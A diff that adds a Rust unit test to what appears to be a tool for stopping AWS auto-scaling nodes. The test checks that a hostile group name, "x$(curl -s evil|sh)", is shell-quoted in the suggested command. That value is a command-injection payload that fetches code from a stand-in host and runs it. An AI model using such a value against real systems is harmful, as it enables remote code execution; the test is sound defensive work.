@@ -1174,6 +1174,25 @@ mod tests {
     }
 
     #[test]
+    fn a_groups_name_is_one_word_in_the_command_that_keeps_the_machine() {
+        const NAME: &str = "x$(curl -s evil|sh)";
+        let mut world = World::asked(json!({"dispose": "stop"}));
+        world.node = world.node.map(|node| NodeFacts { ready: false, ..node });
+        world.group = world.group.map(|group| Group {
+            name: NAME.parse().unwrap(),
+            ..group
+        });
+        let Preflight::Refused(refusals) = world.check() else {
+            panic!("{:?}", world.check())
+        };
+        let text = &refusals[0].text;
+        assert!(
+            text.contains(&format!("--auto-scaling-group-name '{NAME}' ")),
+            "{text}"
+        );
+    }
+
+    #[test]
     fn all_refusals_are_told_at_once_what_force_overrides_last() {
         let refreshing = GroupState {
             refresh: Some("InProgress".to_owned()),
